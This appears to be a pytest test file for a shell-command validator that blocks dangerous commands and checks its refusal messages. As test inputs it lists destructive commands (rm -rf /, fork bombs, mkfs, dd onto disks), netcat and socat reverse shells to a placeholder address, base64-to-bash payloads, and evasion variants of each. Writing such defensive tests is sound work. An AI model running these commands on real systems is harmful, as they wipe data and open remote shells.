@@ -1,0 +1,236 @@
+"""CommandValidator: what it refuses, in which words, and what it lets pass. Nothing of this is run."""
+
+from __future__ import annotations
+
+import pytest
+
+from nacre import Decision, check
+from nacre.compat.tachikoma import BashOptions, CommandValidator, Validation
+from nacre.errors import InvalidPolicy
+from nacre.profiles.tachikoma import TACHIKOMA, tachikoma
+
+DEFAULT = CommandValidator(BashOptions().values.blocked_commands)
+LITERAL = CommandValidator(BashOptions().values.blocked_commands, literal=True)
+BARE = CommandValidator([])
+DANGEROUS = "Command appears to be dangerous"
+
+
+def said(validator: CommandValidator, command: str) -> str:
+    """What it says; nothing if it lets it pass."""
+    try:
+        validator.validate(command)
+    except Validation as refused:
+        return refused.message
+    return ""
+
+
+def blocked(pattern: str) -> str:
+    return f"Command contains blocked pattern: {pattern}"
+
+
+@pytest.mark.req("K-04")
+@pytest.mark.parametrize("command", ["ls -la", "git status", "echo 'hello'", "make test 2>&1 | tee log"])
+@pytest.mark.parametrize("validator", [BARE, DEFAULT, LITERAL], ids=["bare", "default", "literal"])
+def test_a_normal_command_passes(command: str, validator: CommandValidator) -> None:
+    assert said(validator, command) == ""
+
+
+@pytest.mark.req("K-04")
+@pytest.mark.parametrize("command", ["", " ", "\n\t ", "\u2003"], ids=repr)
+@pytest.mark.parametrize("validator", [BARE, DEFAULT, LITERAL], ids=["bare", "default", "literal"])
+def test_an_empty_command_is_refused(command: str, validator: CommandValidator) -> None:
+    assert said(validator, command) == "Empty command"
+
+
+@pytest.mark.req("K-04")
+def test_a_pattern_of_the_caller_s_is_refused() -> None:
+    assert said(CommandValidator(["rm -rf /"]), "rm -rf /") == blocked("rm -rf /")
+    assert said(CommandValidator(["Git Push"]), "cd x && GIT push -u") == blocked("Git Push")
+    assert said(CommandValidator(["a\nb"]), "echo a\nb") == blocked("a\nb")
+    assert said(CommandValidator(["x.y"]), "echo xzy") == ""
+
+
+@pytest.mark.req("K-04")
+def test_a_pattern_of_the_caller_s_is_a_text_wherever_it_stands() -> None:
+    for command in ('echo "rm -rf /"', "rm -rf /tmp/x", "true # rm -rf /"):
+        assert said(CommandValidator(["rm -rf /"]), command) == blocked("rm -rf /")
+    assert said(CommandValidator(["mkfs"]), "man mkfs") == blocked("mkfs")
+
+
+@pytest.mark.req("K-04")
+def test_the_dangerous_is_refused_without_any_pattern() -> None:
+    assert said(BARE, "rm -rf /") == DANGEROUS
+    assert said(BARE, "dd if=/dev/zero of=/dev/sda") == DANGEROUS
+    assert said(BARE, "nc -e /bin/sh 10.0.0.1 4444") == DANGEROUS
+    assert said(BARE, "ncat -e /bin/bash 10.0.0.1 4444") == DANGEROUS
+    assert said(BARE, "echo bHM= | base64 -d | bash") == DANGEROUS
+    assert said(BARE, "echo bHM= |base64 -d |bash") == DANGEROUS
+
+
+PATTERNS = {
+    "rm -rf /": ["rm -rf /", "rm -fr -- /", "sudo rm -r -f /*", "RM -RF /", "bash -c 'rm -rf /'", "X=/; rm -rf $X",
+                 "true && rm -rf //", "cd / && rm -rf *", "echo / | xargs rm -rf", "r''m -rf /", 'rm -rf "$NOPE"/'],
+    ":(){ :|:& };:": [":(){ :|:& };:", ":(){:|:&};:", "bomb() { bomb | bomb & }; bomb", "perl -e 'fork while fork'"],
+    "mkfs": ["mkfs disk.img", "mkfs.ext4 /dev/sdb1", "sudo MKFS.XFS x", "eval 'mkfs x'", "/sbin/mkfs.vfat x"],
+    "dd if=/dev/": ["dd if=/dev/zero of=x", "dd of=x  if=/dev/urandom count=1", "cd /dev; dd if=sda of=/tmp/x",
+                    "DD IF=/DEV/ZERO OF=/DEV/SDA", "dd if=/d''ev/zero"],
+    "> /dev/sd": ["> /dev/sda", "cat x >/dev/sdb1", "{ echo x; } >> /dev/sdc", "tee /dev/sda < x", "cp x /dev/sdz",
+                  "d=/dev/sdb; cat x > $d"],
+}  # fmt: skip
+
+
+@pytest.mark.req("K-02", "K-04")
+@pytest.mark.parametrize(
+    ("command", "pattern"), [(command, pattern) for pattern, found in PATTERNS.items() for command in found]
+)
+def test_a_pattern_of_the_list_is_found_by_what_it_names(command: str, pattern: str) -> None:
+    assert said(DEFAULT, command) == blocked(pattern)
+
+
+@pytest.mark.req("K-04")
+@pytest.mark.parametrize(
+    "command",
+    [
+        "rm / -r",
+        "dd if=image of=/dev/sda",
+        "dd if=image of=/dev/null",
+        "xzcat os.xz | dd of=/dev/sdb",
+        "nc -l 80 -e /bin/cat",
+        "NC -E /BIN/SH h 1",
+        "ncat --exec /usr/bin/env h 1",
+        "netcat h 1 -e bash",
+        "nc -c sh h 1",
+        "mkfifo f; cat f | /bin/sh -i | nc h 1 > f",
+        "socat TCP-LISTEN:1 EXEC:/bin/sh",
+        "base64 x | bash",
+        "base64 -d x.b64|sh",
+        "base64 -d x | gunzip | sudo bash",
+        "bash <(base64 -d x)",
+        'eval "$(base64 -d <<< bHM=)"',
+        "base64 -d x > x.sh; sh x.sh",
+    ],
+)
+def test_the_dangerous_is_found_by_what_it_does(command: str) -> None:
+    assert said(BARE, command) == DANGEROUS
+
+
+@pytest.mark.req("K-04")
+@pytest.mark.parametrize(
+    "command",
+    [
+        'echo "rm -rf /"',
+        "git commit -m 'never run rm -rf /'",
+        "rm -rf /tmp/x",
+        "rm -rf ./build /tmp/y",
+        "grep -rn 'mkfs' docs",
+        "man mkfs",
+        "which mkfs.ext4",
+        "echo ':(){ :|:& };:'",
+        "echo 'dd if=/dev/zero'",
+        "dd if=a of=b 2>/dev/null",
+        "pv x | dd of=/dev/null",
+        "echo '> /dev/sda'",
+        "make > /dev/null",
+        "echo x > /dev/shm/sda",
+        "grep -e /bin/sh /etc/passwd",
+        "nc -zv localhost 5432",
+        "echo 'nc -e /bin/sh'",
+        "sync -e /bin/x",
+        "rsync -e /usr/bin/ssh a b:",
+        "base64 x > y; echo '| bash'",
+        "echo hi | base64",
+        "base64 -d x | jq .",
+        "cat <<'X'\nrm -rf /\nX",
+        "# rm -rf /\ntrue",
+    ],
+)
+def test_a_text_that_does_no_such_thing_passes(command: str) -> None:
+    assert said(DEFAULT, command) == ""
+
+
+@pytest.mark.req("K-04")
+@pytest.mark.parametrize(
+    ("command", "message"),
+    [
+        ('echo "rm -rf /"', blocked("rm -rf /")),
+        ("rm -rf /tmp/x", blocked("rm -rf /")),
+        ("man MKFS", blocked("mkfs")),
+        ("echo 'dd if=/dev/zero'", blocked("dd if=/dev/")),
+        ("echo '> /dev/sda'", blocked("> /dev/sd")),
+        ("echo ':(){ :|:& };:'", blocked(":(){ :|:& };:")),
+        ("RM  -RF  /", DANGEROUS),
+        ("ls /; echo -rf; echo rm", DANGEROUS),
+        ("dd bs=1 if=a 2>/dev/null", DANGEROUS),
+        ("sync\nset -e\n/bin/true", DANGEROUS),
+        ("echo base64 |bash", DANGEROUS),
+        ("base64 x | bash", DANGEROUS),
+        ("base64 x | sh", ""),
+        ("base64 x |  bash", ""),
+        ("cat x>/dev/sda", ""),
+    ],
+)
+def test_literally_they_are_texts_as_the_document_has_them(command: str, message: str) -> None:
+    assert said(LITERAL, command) == message
+
+
+@pytest.mark.req("K-04")
+@pytest.mark.parametrize(
+    ("command", "pattern"),
+    [
+        ("nc -e /bin/sh h 1; mkfs x; rm -rf /", "rm -rf /"),
+        ("nc -e /bin/sh h 1; mkfs x", "mkfs"),
+        ("cat x > /dev/sda; dd if=/dev/zero of=x", "dd if=/dev/"),
+        ("dd if=/dev/zero of=/dev/sda", "dd if=/dev/"),
+    ],
+)
+@pytest.mark.parametrize("validator", [DEFAULT, LITERAL], ids=["default", "literal"])
+def test_the_first_pattern_of_the_list_is_named_before_any_danger(
+    command: str, pattern: str, validator: CommandValidator
+) -> None:
+    assert said(validator, command) == blocked(pattern)
+
+
+def test_a_home_is_refused_as_well_in_words_of_our_own() -> None:
+    for validator in (BARE, DEFAULT, LITERAL):
+        assert "would delete the home director" in said(validator, "rm -rf ~")
+
+
+def test_what_the_command_would_be_given_counts() -> None:
+    with pytest.raises(Validation):
+        DEFAULT.validate("rm -rf $X", env={"X": "/"})
+    with pytest.raises(Validation):
+        DEFAULT.validate("rm -rf *", cwd="/")
+    DEFAULT.validate("rm -rf $X", env={"X": "/tmp/x"})
+    DEFAULT.validate("rm -rf ./x", cwd="/tmp")
+
+
+def test_what_no_shell_could_take_is_refused() -> None:
+    assert "NUL" in said(DEFAULT, "a\0b")
+
+
+@pytest.mark.parametrize("given", ["rm", [b"rm"], [None]], ids=repr)
+def test_one_text_is_no_list(given: list[str]) -> None:
+    with pytest.raises(InvalidPolicy, match="no list of texts"):
+        CommandValidator(given)
+    with pytest.raises(InvalidPolicy, match="no list of texts"):
+        tachikoma(block=given)
+
+
+def test_it_tells_its_patterns() -> None:
+    assert CommandValidator(["a", "b"]).blocked_patterns == ("a", "b")
+
+
+@pytest.mark.req("K-04")
+@pytest.mark.parametrize(
+    ("command", "pattern"), [(command, pattern) for pattern, found in PATTERNS.items() for command in found[:2]]
+)
+def test_the_profile_s_policy_says_the_same(command: str, pattern: str) -> None:
+    verdict = check(command, policy=TACHIKOMA.policy)
+    assert (verdict.decision, verdict.what, verdict.instead) == (Decision.REFUSE, blocked(pattern), "")
+
+
+def test_a_long_text_takes_no_long_time() -> None:
+    """What grew with the square of it would take hours."""
+    for command in ("rm " * 50_000, "base64 |" * 2000 + "bash", "nc -e " * 50_000, "-rf / " * 50_000):
+        for validator in (DEFAULT, LITERAL, CommandValidator(["a" * 1000])):
+            said(validator, command)
